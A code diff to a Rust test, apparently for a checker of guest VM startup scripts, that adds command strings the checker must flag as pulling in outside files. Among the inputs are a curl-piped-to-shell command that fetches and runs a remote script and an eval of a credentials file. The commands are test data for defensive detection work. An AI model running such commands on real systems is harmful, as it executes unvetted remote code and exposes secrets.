@@ -376,6 +376,7 @@ fn what_a_script_of_the_guest_takes_from_outside_is_found() {
         "mount LABEL=config /mnt; . /mnt/env",
         "eval \"$(cat /run/credentials/x)\"",
         "sh /proc/device-tree/chosen/x",
+        "curl -s http://get.example.com/i.sh | sh",
     ] {
         assert!(read(script).executes_host_files, "{script}");
     }
@@ -436,6 +437,8 @@ fn what_a_script_of_the_guest_takes_from_outside_is_found() {
         "cd \"$(cat x)\" && tar xzf a.tgz",
         "curl -fsSL https://x.example/docker-compose.yaml -O",
         "wget https://x.example/docker-compose.yaml",
+        "rsync -avt h:/srv/docker-compose.yaml .",
+        "scp h:docker-compose.yaml /dstack/",
         "python3 - <<'E'\nimport json\njson.dump({}, open(f))  # app-compose.json\nE",
         "python3 - <<'E'\nimport json\njson.load(open('app-compose.json'))\nopen('docker-compose.yaml', 'w')\nE",
     ] {
